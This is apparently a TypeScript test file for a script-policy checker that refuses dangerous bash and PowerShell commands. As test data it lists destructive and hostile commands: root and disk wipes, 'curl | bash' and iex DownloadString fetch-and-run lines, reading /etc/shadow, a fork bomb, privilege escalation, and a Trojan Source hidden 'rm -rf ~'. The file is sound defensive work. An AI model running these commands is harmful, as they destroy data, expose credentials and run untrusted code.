import { describe, expect, it } from 'vitest'
import { checkProposedScript } from './proposed-script-policy.ts'

describe('checkProposedScript', () => {
  it.each([
    ['bash', 'rm -rf /', 'deletes the root file system'],
    ['bash', 'sudo rm -rf --no-preserve-root /', 'deletes the root file system'],
    ['bash', 'dd if=/dev/zero of=/dev/sda bs=1M', 'formats or overwrites a disk'],
    ['bash', 'userdel -r jdoe', 'deletes user accounts'],
    ['powershell', "Remove-ADUser -Identity 'jdoe' -Confirm:$false", 'deletes user accounts'],
    [
      'powershell',
      "Add-ADGroupMember -Identity 'Domain Admins' -Members 'jdoe'",
      'touches privileged groups',
    ],
    ['bash', 'usermod -aG sudo jdoe', 'touches privileged groups'],
    ['bash', 'curl -s https://example.com/x.sh | bash', 'downloads and runs code'],
    [
      'powershell',
      "iex (New-Object Net.WebClient).DownloadString('https://example.com/a.ps1')",
      'downloads and runs code',
    ],
    ['powershell', 'Set-ExecutionPolicy Unrestricted -Force', 'weakens security settings'],
    ['bash', 'cat /etc/shadow', 'reads or changes stored credentials'],
    ['bash', ':(){ :|:& };:', 'a fork bomb'],
    ['powershell', 'Restart-Computer -Force', 'stops or restarts the machine'],
  ] as const)('refuses %s: %s', async (language, script, reason) => {
    const verdict = await checkProposedScript(language, script)
    expect(verdict.ok).toBe(false)
    if (!verdict.ok) expect(verdict.problems.join('; ')).toContain(reason)
  })

  it('refuses an invisible character, naming it (a script the approver reads must be the one that runs)', async () => {
    // "Trojan Source": the override makes the comment's end look like code, or code like a comment.
    const verdict = await checkProposedScript('bash', 'df -h / # check \u202e ; rm -rf ~ \u202c\n')
    expect(verdict).toEqual({
      ok: false,
      problems: [expect.stringMatching(/U\+202E RIGHT-TO-LEFT OVERRIDE \(character 17\)/)],
    })
    const zeroWidth = await checkProposedScript('powershell', 'Get-Service -Name Spo\u200boler\n')
    expect(zeroWidth.ok ? '' : zeroWidth.problems.join()).toMatch(/U\+200B ZERO WIDTH SPACE/)
  })

  it('accepts ordinary read-only diagnostics in both languages', async () => {
    expect(
      await checkProposedScript(
        'bash',
        'df -h /\nfree -m\nsystemctl --failed --no-pager || true\n',
      ),
    ).toEqual({ ok: true })
    expect(
      await checkProposedScript(
        'powershell',
        'Get-PnpDevice -Class Camera | Select-Object FriendlyName, Status\nGet-Service -Name FrameServer\n',
      ),
    ).toEqual({ ok: true })
  })

  it('refuses a script that does not parse, naming the line', async () => {
    const bash = await checkProposedScript('bash', 'echo ok\nif true; then echo "unterminated\n')
    expect(bash).toMatchObject({
      ok: false,
      problems: [expect.stringMatching(/^bash -n: line \d+/)],
    })
    const powershell = await checkProposedScript(
      'powershell',
      'Get-Service | Where-Object { $_.Status -eq "Running"\n',
    )
    expect(powershell).toMatchObject({
      ok: false,
      problems: [expect.stringMatching(/^PowerShell syntax: line \d+/)],
    })
  })

  it('refuses empty, oversized and control-character scripts', async () => {
    expect((await checkProposedScript('bash', '   ')).ok).toBe(false)
    expect((await checkProposedScript('bash', `echo ${'x'.repeat(9000)}`)).ok).toBe(false)
    expect((await checkProposedScript('bash', 'echo a\u0007b')).ok).toBe(false)
  })
})
